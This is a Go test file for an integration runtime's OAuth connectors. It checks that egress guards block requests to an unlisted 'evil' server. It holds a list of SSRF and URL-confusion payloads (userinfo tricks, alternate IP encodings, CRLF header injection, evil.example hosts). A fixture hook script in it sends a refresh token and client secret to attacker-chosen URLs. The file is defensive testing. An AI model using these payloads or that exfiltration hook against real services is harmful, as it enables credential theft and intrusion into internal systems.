package main

import (
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"claviger/runtime/fakeprovider"
)

// evilServer must never hear anything: it stands on this machine, at an address that the guard would let through, but on
// no connector's list.
func evilServer(t testing.TB) (base string, heard *atomic.Int64) {
	t.Helper()
	heard = new(atomic.Int64)
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { heard.Add(1) }))
	s.Listener.Close()
	var err error
	if s.Listener, err = net.Listen("tcp", "127.0.0.2:0"); err != nil {
		t.Fatal(err)
	}
	s.Start()
	t.Cleanup(s.Close)
	return s.URL, heard
}

// disguises are ways of writing the evil server's address where a host of the connector's is expected.
func disguises(evil, good string) []string {
	host := strings.TrimPrefix(evil, "http://")
	_, port, _ := net.SplitHostPort(host)
	return []string{
		evil, evil + "/", evil + "/#", evil + "?", evil + "#@" + good, evil + `\@` + good, "http://" + good + "@" + host, "http://" + good + "%40" + host,
		"http://" + good + ":pass@" + host, "//" + host, "http:" + host, "https://evil.example", "https://" + good + ".evil.example", "https://evil.example/" + good,
		"http://１２７.0.0.2:" + port, "http://127。0。0。2:" + port, "http://127.2:" + port, "http://2130706434:" + port, "http://0x7f000002:" + port,
		"http://[::ffff:127.0.0.2]:" + port, "HTTP://" + host, evil + "%00", evil + "%0d%0aHost:%20" + good, " " + evil, evil + "\u200b",
	}
}

func TestZohoAccountsServer(t *testing.T) {
	t.Parallel()
	evil, heard := evilServer(t)
	s := startServer(t, "--egress-allow", "127.0.0.0/8")
	s.Want(http.StatusOK, http.MethodPut, "/v1/integrations/zoho", map[string]any{
		"connector": "zoho", "parameters": map[string]any{"clientId": "zoho-client", "clientSecret": "zoho-secret-0123456789"},
	})
	for _, server := range disguises(evil, "accounts.zoho.com") {
		b := newBrowser(t)
		id, link := s.Connect(map[string]any{"integration": "zoho"})
		_, authorize := b.Get(link)
		a, _ := b.Get(s.URL + "/oauth/callback/zoho?" + url.Values{
			"state": query(t, authorize)["state"], "code": {"a-code-0123456789"}, "accounts-server": {server}, "location": {"eu"},
		}.Encode())
		if a.Status < 400 || strings.Contains(a.Body, "zoho-secret") || strings.Contains(a.Body, "a-code-0123456789") {
			t.Errorf("%q: %d %s", server, a.Status, a.Body)
		}
		if c := s.Want(http.StatusOK, http.MethodGet, "/v1/connections/"+id, nil); c["status"] == "connected" {
			t.Errorf("%q: connected", server)
		}
	}
	if heard.Load() != 0 {
		t.Errorf("the evil server heard %d requests", heard.Load())
	}
}

func TestFreshdeskDomain(t *testing.T) {
	t.Parallel()
	evil, heard := evilServer(t)
	s := startServer(t, "--egress-allow", "127.0.0.0/8")
	s.Want(http.StatusOK, http.MethodPut, "/v1/integrations/freshdesk", map[string]any{"connector": "freshdesk", "parameters": map[string]any{}})
	hostile := append(disguises(evil, "acme.freshdesk.com"), "evil.com/", "evil.com/#", "a@b", "x#", "..", "a.b", "acme/", "acme:80", "ａcme", "a\r\nb", "", "-", "acme.freshdesk.com@evil.example")
	for _, domain := range hostile {
		a := s.API(http.MethodPost, "/v1/connections", map[string]any{"integration": "freshdesk", "parameters": map[string]any{"domain": domain, "apiKey": "key-0123456789"}})
		if a.Status != http.StatusUnprocessableEntity || a.Code() != "invalid_parameters" {
			t.Errorf("%q: %d %s", domain, a.Status, a.Body)
		}
		b := newBrowser(t)
		id, link := s.Connect(map[string]any{"integration": "freshdesk"})
		b.Get(link)
		if a, _ := b.Post(link, url.Values{"domain": {domain}, "apiKey": {"key-0123456789"}}); a.Status < 400 {
			t.Errorf("%q on the page: %d", domain, a.Status)
		}
		s.wantStatus(id, "pending")
	}
	if heard.Load() != 0 {
		t.Errorf("the evil server heard %d requests", heard.Load())
	}
	a := s.API(http.MethodPost, "/v1/connections", map[string]any{"integration": "freshdesk", "parameters": map[string]any{"domain": "acme", "apiKey": "key-0123456789"}})
	if a.Code() == "invalid_parameters" || !strings.Contains(string(a.Body), "acme.freshdesk.com") && a.Status != http.StatusCreated {
		t.Errorf("a domain as it should be is not asked: %d %s", a.Status, a.Body) // whether there is an answer is not this test's to say
	}
}

// A renewal goes where the list says too, and so does a hook's fetch, whatever its credentials name.
func TestHookFetchesListedHostsOnly(t *testing.T) {
	t.Parallel()
	evil, heard := evilServer(t)
	dir := madeFolder(t, "hooked", map[string]string{
		"spec.yml": `
allowedHosts: ['127.0.0.1']
parametersSchema: {type: object, required: [baseUrl], properties: {baseUrl: {type: string}, clientId: {type: string}, clientSecret: {type: string, format: password}}}
auth: {type: oauth2}
`,
		"auth/get-oauth-config.map.yml": `
clientId: {$var: connectorParameters.clientId}
clientSecret: {$var: connectorParameters.clientSecret}
authorizeUri: {$concat: [{$var: connectorParameters.baseUrl}, /authorize]}
tokenUri: {$concat: [{$var: connectorParameters.baseUrl}, /token]}
clientAuthLocation: body
`,
		"auth/refresh-credentials.js": `exports.refreshCredentials = async ({connectorParameters, credentials}) => {
  for (const where of credentials.where) {
    await fetch(where, {method: 'POST', body: credentials.refresh_token + connectorParameters.clientSecret}).then(() => {}, () => {});
  }
  await fetch(connectorParameters.baseUrl + '/redirect', {method: 'POST', body: credentials.refresh_token}).then(() => {}, () => {});
  return {};
};`,
	})
	c := newScene(t, dir, fakeprovider.Options{})
	c.Stop()
	c.args = append(c.args, "--egress-allow", "127.0.0.0/8")
	c.Start()
	c.Provider.Misbehave(fakeprovider.Fault{Mode: fakeprovider.Set, Set: map[string]any{"where": disguises(evil, strings.TrimPrefix(c.Base, "http://"))}})
	id := c.connectWith(newBrowser(t), map[string]any{"integration": "app"})
	a := c.API(http.MethodPost, "/v1/connections/"+id+"/refresh", nil)
	if a.Status < 400 || heard.Load() != 0 {
		t.Errorf("%d %s; the evil server heard %d requests", a.Status, a.Body, heard.Load())
	}
	c.wantStatus(id, "connected")
	c.token(id)
}
